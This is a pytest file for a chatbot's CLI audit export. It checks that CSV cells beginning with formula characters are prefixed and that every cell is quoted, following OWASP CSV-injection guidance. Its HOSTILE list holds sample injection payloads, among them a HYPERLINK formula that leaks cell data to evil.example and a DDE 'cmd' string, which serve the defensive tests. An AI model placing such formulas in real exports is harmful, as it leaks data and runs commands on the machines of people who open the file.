"""``deptbot audit export --format csv`` neutralises cells a spreadsheet would run as a
formula (review s21, finding 5). Any chat user controls the question text, and an admin
opens the export in Excel or LibreOffice. OWASP's CSV-injection guidance: no cell may
begin with ``= + - @``, tab, carriage return or line feed (prefix ``'``), and every cell is
quoted so a ``;`` or ``,`` inside the text cannot start a new cell. JSON lines, the format
that verifies offline, keep the text exactly as stored."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from bot.cli import main
from bot.store.audit import SqliteAuditLog
from tests.fakes import make_company
from tests.governance.test_audit_chain import KEY, entry

Run = Callable[..., tuple[int, str, str]]

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&B2,"Open policy")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    make_company(tmp_path)
    for var in [v for v in os.environ if v.startswith(("DEPTBOT_", "ANTHROPIC_", "OPENAI_", "SLACK_"))]:
        monkeypatch.delenv(var)
    monkeypatch.setenv("DEPTBOT_DEPARTMENTS", str(tmp_path / "departments"))
    monkeypatch.setenv("DEPTBOT_STATE", str(tmp_path / "state"))
    monkeypatch.setenv("DEPTBOT_AUDIT_KEY", KEY)

    def _run(*argv: str) -> tuple[int, str, str]:
        code = main(list(argv))
        out, err = capsys.readouterr()
        return code, out, err

    return _run


def _log(tmp_path: Path, questions: list[str], **kw: object) -> None:
    log = SqliteAuditLog(path=tmp_path / "state" / "audit.db", env={"DEPTBOT_AUDIT_KEY": KEY})
    for i, question in enumerate(questions, 1):
        log.record(entry(i, question=question, **kw))
    log.close()


def test_csv_cells_that_start_a_formula_are_prefixed(run: Run, tmp_path: Path) -> None:
    _log(tmp_path, [*HOSTILE, "How many vacation days?"])
    code, out, err = run("audit", "export", "--format", "csv", "--with-text")
    assert code == 0, err
    table = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["question"] for r in table] == [*("'" + q for q in HOSTILE), "How many vacation days?"]
    for row in table:
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") for v in row.values()), row
    assert [r["seq"] for r in table] == [str(i) for i in range(1, len(HOSTILE) + 2)]


def test_every_csv_cell_is_quoted_so_a_separator_cannot_start_a_cell(run: Run, tmp_path: Path) -> None:
    """OWASP's two examples: quoted, prefixed, inner quotes doubled, so neither a ``;`` nor
    a ``,`` inside the text can open a cell that starts with ``=``."""
    _log(tmp_path, ['=1+2";=1+2', "=1+2'\" ;,=1+2"])
    code, out, err = run("audit", "export", "--format", "csv", "--with-text")
    assert code == 0, err
    lines = out.splitlines()
    assert lines[1].endswith(',"\'=1+2"";=1+2"') and lines[2].endswith(',"\'=1+2\'"" ;,=1+2"')
    assert all(line.startswith('"') for line in lines)  # numbers too: every cell is quoted


def test_other_text_columns_are_neutralised_too(run: Run, tmp_path: Path) -> None:
    _log(tmp_path, ["q"], user="-alice@example.com", department="=hr")
    code, out, _ = run("audit", "export", "--format", "csv")
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    assert code == 0 and row["user"] == "'-alice@example.com" and row["department"] == "'=hr"


def test_jsonl_export_keeps_the_text_as_stored(run: Run, tmp_path: Path) -> None:
    _log(tmp_path, HOSTILE)
    code, out, _ = run("audit", "export", "--with-text")
    assert code == 0 and [json.loads(line)["question"] for line in out.splitlines()] == HOSTILE


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),  # leading blanks before a trigger: prefixed as well
        ("'=1+1", "'=1+1"),  # already text: left alone
        ("plain", "plain"),
        ("", ""),
        ("a=b", "a=b"),
        (12, 12),
        (-3.5, -3.5),  # numbers stay numbers
        (None, None),
    ],
)
def test_spreadsheet_safe(value: object, expected: object) -> None:
    from bot.cli.audit import spreadsheet_safe

    assert spreadsheet_safe(value) == expected
